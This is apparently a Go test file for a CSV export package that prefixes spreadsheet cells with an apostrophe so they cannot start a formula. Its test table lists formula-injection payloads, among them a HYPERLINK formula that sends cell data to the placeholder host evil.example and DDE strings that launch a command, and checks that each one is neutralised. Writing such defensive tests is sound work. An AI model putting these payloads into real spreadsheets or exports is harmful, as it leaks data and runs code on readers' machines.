package webtext

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

// attacks are texts of sites, and the cells made of them. Each text is a formula, or hides one, for
// some spreadsheet in some country.
var attacks = []struct{ text, cell string }{
	{"", ""},
	{"plain, with = and a - b + c @ d", "plain, with = and a - b + c @ d"},
	{"a=b", "a=b"},
	{"=1+1", "'=1+1"},
	{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
	{"＝1+1", "'＝1+1"}, // full width, which some keyboards and spreadsheets treat as the same
	{"＋1", "'＋1"},
	{"－1", "'－1"},
	{"＠x", "'＠x"},
	{"  =1", "  '=1"},
	{"\u00a0=1", "\u00a0'=1"},
	{"\u3000=1", "\u3000'=1"},
	{"\ufeff=1", "\ufeff'=1"},
	{"\t=1", "'\t'=1"},
	{"\tx", "'\tx"},
	{"\r=1", "'\r'=1"},
	{"\n=1", "'\n'=1"},
	{"\x00=1", "'=1"},
	{"=\x00=1", "'==1"},
	{`"=1"`, `"'=1"`},
	{`'=1`, `''=1`},
	// Where ";" or a tab separates cells, quotes do not keep a cell together.
	{"x;=1+1;y", "x;'=1+1;y"},
	{"x; =1", "x; '=1"},
	{"x\t=1", "x\t'=1"},
	{"x|=1", "x|'=1"},
	{`x,"=1`, `x,"'=1`},
	{"x,@SUM(A1)", "x,'@SUM(A1)"},
	{"first\n=1\r\n+2", "first\n'=1\r\n'+2"},
	{"line\u2028=1\u2029=2\u0085=3\v=4\f=5", "line\u2028'=1\u2029'=2\u0085'=3\v'=4\f'=5"},
	{"\xff=1", "\xff=1"}, // begins with something else
}

// cells returns the cells of all attacks.
func cells() (all []string) {
	for _, a := range attacks {
		all = append(all, a.cell)
	}
	return all
}

// formula returns a part of a cell that begins with a formula when the table is split in any of the
// known ways, or "".
func formula(cell string) string {
	for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;|\t\r\n\v\f\u0085\u2028\u2029", r) }) {
		if first, _ := utf8.DecodeRuneInString(strings.TrimLeft(part, " \u00a0\u3000\ufeff\"\x00")); strings.ContainsRune("=+-@＝＋－＠", first) {
			return part
		}
	}
	return ""
}

func TestCell(t *testing.T) {
	for _, a := range attacks {
		got := Cell(a.text)
		if got != a.cell {
			t.Errorf("%q: %q, want %q", a.text, got, a.cell)
		}
		if f := formula(got); f != "" {
			t.Errorf("%q has a cell %q", got, f)
		}
	}
}

// A text that fits into a cell is kept whole. Text beyond the limit would begin another row.
func TestCellIsCut(t *testing.T) {
	for _, c := range []struct {
		text string
		want int // bytes
	}{
		{strings.Repeat("x", maxCell), maxCell},
		{strings.Repeat("x", maxCell+1), maxCell},
		{strings.Repeat("é", maxCell+1), 2 * maxCell},
		{strings.Repeat("x", maxCell-1) + "😀", maxCell - 1}, // two code units
		{strings.Repeat("x", maxCell-2) + "😀=", maxCell + 2},
		{"=" + strings.Repeat("x", maxCell-1), maxCell}, // including its apostrophe
	} {
		got := Cell(c.text)
		if len(got) != c.want || len(utf16.Encode([]rune(got))) > maxCell {
			t.Errorf("%d bytes of %d, want %d", len(got), len(c.text), c.want)
		}
	}
}

// table has one row with all attacks, and one row for each attack.
func table(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	columns := make([]string, len(attacks))
	for i := range columns {
		columns[i] = "c"
	}
	w, err := NewCSV(&b, columns...)
	if err != nil {
		t.Fatal(err)
	}
	var texts []string
	for _, a := range attacks {
		texts = append(texts, a.text)
	}
	if err := w.Write(texts...); err != nil {
		t.Fatal(err)
	}
	for i := range attacks {
		row := make([]string, len(attacks))
		row[i] = attacks[i].text
		if err := w.Write(row...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Two readers of CSV find the cells that were written.
func TestCSVRoundTrip(t *testing.T) {
	written := table(t)
	want := cells()
	if got := rows(t, csv.NewReader(bytes.NewReader(written)).ReadAll); len(got) != len(attacks)+2 || !slices.Equal(got[1], lines(want)) {
		t.Errorf("encoding/csv reads %q", got[1])
	}
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("no python3")
	}
	read := exec.Command("python3", "-c", `import csv, io, json, sys
text = sys.stdin.buffer.read().decode("utf-8", "surrogateescape")
json.dump([[c.encode("utf-8", "surrogateescape").decode("latin-1") for c in row] for row in csv.reader(io.StringIO(text, newline=""))], sys.stdout)`)
	read.Stdin = bytes.NewReader(written)
	out, err := read.Output()
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatal(err)
	}
	for i := range got {
		for j, c := range got[i] {
			b := []byte{}
			for _, r := range c {
				b = append(b, byte(r))
			}
			got[i][j] = string(b)
		}
	}
	if len(got) != len(attacks)+2 || !slices.Equal(got[1], want) {
		t.Errorf("python reads %q", got[1])
	}
	for i := range attacks {
		if got[i+2][i] != want[i] {
			t.Errorf("row %d: %q, want %q", i, got[i+2][i], want[i])
		}
	}
}

func rows(t *testing.T, read func() ([][]string, error)) [][]string {
	t.Helper()
	all, err := read()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// lines returns cells as encoding/csv reads them: it reads CR LF as LF.
func lines(cells []string) (all []string) {
	for _, c := range cells {
		all = append(all, strings.ReplaceAll(c, "\r\n", "\n"))
	}
	return all
}

// FuzzCell: a cell never begins with a formula, and only NUL and text beyond the limit are removed.
func FuzzCell(f *testing.F) {
	for _, a := range attacks {
		f.Add(a.text)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Cell(s)
		if f := formula(got); f != "" {
			t.Errorf("%q becomes %q, with the cell %q", s, got, f)
		}
		rest := got
		for _, c := range []byte(strings.ReplaceAll(s, "\x00", "")) {
			if rest != "" && rest[0] != c && rest[0] == '\'' {
				rest = rest[1:]
			}
			if rest == "" && len(got) > maxCell/2 {
				return // cut
			}
			if rest == "" || rest[0] != c {
				t.Fatalf("%q becomes %q", s, got)
			}
			rest = rest[1:]
		}
	})
}
